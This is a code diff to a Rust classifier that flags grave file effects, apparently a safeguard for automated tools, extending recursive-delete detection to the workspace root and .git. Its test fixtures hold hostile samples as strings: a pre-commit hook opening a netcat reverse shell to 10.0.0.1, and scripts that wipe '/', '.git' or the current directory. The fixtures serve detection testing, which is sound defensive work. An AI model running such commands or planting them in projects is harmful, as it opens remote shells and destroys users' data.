@@ -72,7 +72,8 @@ fn is_grave(kind: &EffectKind) -> bool {
         | EffectKind::Persist { .. }
         | EffectKind::Exhaust { .. } => true,
         EffectKind::Delete { place, recursive, .. } => {
-            is_system(place) || (*recursive && place.scope == Scope::Home)
+            let whole = place.scope == Scope::WorkspaceRoot || place.path.ends_with(".git");
+            is_system(place) || (*recursive && (place.scope == Scope::Home || (place.known && whole)))
         }
         EffectKind::Move { from, to, .. } => is_system(from) || is_system(to),
         EffectKind::Permit { place, .. } | EffectKind::Link { place, .. } => is_system(place),
@@ -230,6 +231,9 @@ mod tests {
         ),
         (".husky/pre-commit", "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n"),
         ("tool.py", "import shutil\nshutil.rmtree('/')\n"),
+        ("conftest.py", "import shutil\nshutil.rmtree('.git')\n"),
+        ("Makefile", "all:\n\trm -rf .git\n"),
+        ("clean.sh", "cd \"$(dirname \"$0\")\"\nrm -rf .\n"),
     ];
 
     /// Ordinary work.
